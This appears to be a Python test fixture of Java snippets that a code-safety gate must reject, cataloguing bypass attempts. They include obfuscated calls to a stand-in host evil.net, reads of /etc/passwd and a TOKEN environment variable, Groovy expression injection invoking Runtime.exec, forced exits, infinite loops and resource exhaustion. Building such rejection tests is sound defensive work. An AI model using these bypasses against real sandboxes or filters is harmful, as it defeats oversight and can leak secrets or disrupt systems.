"""Ways around the rules for Java that were tried on them; each of them is red."""

from __future__ import annotations

from tests.proof.gates.safety_java_cases import case

# ruff: noqa: E501 - a trick stands in one line

TRICKS: dict[str, str] = {
    "URI ctor": case(
        'java.net.URI u = new java.net.URI("http://evil.net"); HttpRequest.newBuilder(u).build();'
    ),
    "var url chain": case('var a = List.of("http://evil.net"); for (String u : a) given().get(u);'),
    "url map": case(
        'Map<String,String> m = Map.of("a", "http://evil.net"); given().get(m.get("a"));'
    ),
    "StringBuilder": case(
        'given().get(new StringBuilder("http://").append("evil.net").toString());'
    ),
    "reverse": case('given().get(new StringBuilder("ten.live//:ptth").reverse().toString());'),
    "join": case('given().get(String.join("", "http://", "evil.net"));'),
    "char array": case("given().get(new String(new char[] {104,116,116,112,58}));"),
    "pathParam": case('given().pathParam("h", "evil.net").get("http://{h}/x");'),
    "when request": case('given().request("GET", "http://evil.net");'),
    "request Method": case('given().request(Method.GET, "http://evil.net");'),
    "spec builder": case('new RequestSpecBuilder().setBaseUri("http://evil.net").build();'),
    "RA port": case("RestAssured.port = 22;"),
    "URI attr": case('RestAssured.baseURI = "http://" + "evil.net";'),
    "field init": case(
        "",
        member='  String host = "evil.net"; void f() { given().baseUri("http://" + host).get("/"); }',
    ),
    "static block": case("", member="  static { System.exit(0); }"),
    "inst block": case("", member="  { Runtime.getRuntime().halt(0); }"),
    "lambda ref": case("Runnable r = Runtime.getRuntime()::gc;"),
    "sys ref": case("IntConsumer c = System::exit; c.accept(0);"),
    "sys var": case("System.out.checkError(); System.setErr(System.out);"),
    "gc": case("System.gc();"),
    "sysinherit": case("System.inheritedChannel();"),
    "console": case("System.console().readLine();"),
    "sysin": case("System.in.read();"),
    "props": case("System.getProperties().list(System.out);"),
    "bool prop": case('System.getProperty("java.class.path");'),
    "static getenv": case('getenv("TOKEN");', imports="import static java.lang.System.getenv;"),
    "static star": case("exit(0);", imports="import static java.lang.System.*;"),
    "invoke": case("java.lang.reflect.Method m = null; m.invoke(null);"),
    "Class var": case('Class<?> c = String.class; c.getMethod("x");'),
    "getClass chain": case("this.getClass().getClassLoader();"),
    "unsafe": case("sun.misc.Unsafe.getUnsafe();"),
    "anonymous thread": case("new java.util.TimerTask() { public void run() {} };"),
    "completable": case("java.util.concurrent.CompletableFuture.runAsync(() -> {});"),
    "wait": case("synchronized (this) { this.wait(); }"),
    "locksupport": case("java.util.concurrent.locks.LockSupport.park();"),
    "while cmp": case("while (1 < 2) { }"),
    "while not false": case("while (!false) { }"),
    "for true": case("for (; true; ) { }"),
    "labeled": case("a: while (true) { while (true) { break; } }"),
    "iterate": case("java.util.stream.Stream.iterate(1, x -> x).forEach(x -> {});"),
    "intstream": case("java.util.stream.IntStream.generate(() -> 1).sum();"),
    "random ints": case("new java.util.Random().ints().sum();"),
    "big int": case("java.math.BigInteger.TWO.pow(Integer.MAX_VALUE);"),
    "ncopies": case("Collections.nCopies(2_000_000_000, 1);"),
    "new list": case("new ArrayList<>(Integer.MAX_VALUE);"),
    "repeated": case("", member="  @org.junit.jupiter.api.RepeatedTest(1_000_000) void f() {}"),
    "jsonpath": case('new JsonPath("{}").get("a.execute()");'),
    "groovy closure": case(
        'given().get("/").then().body("items.findAll { \'id\'.execute() }", is(1));'
    ),
    "groovy var": case('String p = "x.class.forName(1)"; given().get("/").path(p);'),
    "groovy runtime": case('given().get("/").then().body("Runtime.runtime.exec(1)", is(1));'),
    "groovy str": case('given().get("/").then().body("\\"${new File(1)}\\"", is(1));'),
    "groovy this": case('given().get("/").then().body("this.getClass()", is(1));'),
    "groovy sleep": case('given().get("/").then().body("it.sleep(100000)", is(1));'),
    "groovy getenv": case('given().get("/").then().body("System.getenv()", is(1));'),
    "groovy text": case('given().get("/").then().body("\'http://evil.net\'.toURL().text", is(1));'),
    "spel": case("new org.springframework.expression.spel.standard.SpelExpressionParser();"),
    "keystore": case('given().keyStore("/keys/x", "y");'),
    "cert": case('given().auth().certificate("/keys/x", "y");'),
    "schemafile": case(
        'given().get("/").then().body(matchesJsonSchema(new java.io.File("/etc/passwd")));'
    ),
    "multi path": case('given().multiPart("f", java.nio.file.Path.of("/etc/passwd").toFile());'),
    "body file": case("HttpRequest.BodyPublishers.ofFile(null);"),
    "jackson file": case('new ObjectMapper().readTree(new java.io.File("x"));'),
    "jackson url": case('new ObjectMapper().readTree(new java.net.URL("http://evil.net"));'),
    "jackson typing": case("new ObjectMapper().enableDefaultTyping();"),
    "interceptor": case(
        "",
        member="  static class A implements org.junit.jupiter.api.extension.InvocationInterceptor {}",
    ),
    "hook": case("Runtime.getRuntime().addShutdownHook(null);"),
    "fw": case('new PrintStream("/tmp/x");'),
    "fileoutput": case('new FileOutputStream("/tmp/x");'),
    "log handler": case('new java.util.logging.FileHandler("x");'),
    "jdbc": case('java.sql.DriverManager.getConnection("jdbc:x");'),
    "inet": case('java.net.InetAddress.getByName("evil.net");'),
    "okhttp": case('new okhttp3.Request.Builder().url("http://evil.net").build();'),
    "apache": case('new org.apache.http.client.methods.HttpGet("http://evil.net");'),
    "resttemplate": case('new RestTemplate().getForObject("http://evil.net", String.class);'),
    "webclient": case('WebClient.create("http://evil.net");'),
    "unicode cls": case("\\u0052untime.getRuntime();"),
    "uuuu": case("\\uuuu0052untime.getRuntime();"),
    "uni string": case('String s = "\\u0022; System.exit(0); //";'),
    "generic": case("List<ProcessBuilder> l = null;"),
    "cast": case("((ProcessBuilder) null).start();"),
    "array": case("ProcessBuilder[] p = {};"),
    "method source": case(
        "",
        member='  @org.junit.jupiter.params.provider.MethodSource("java.lang.System#exit") void f() {}',
    ),
}
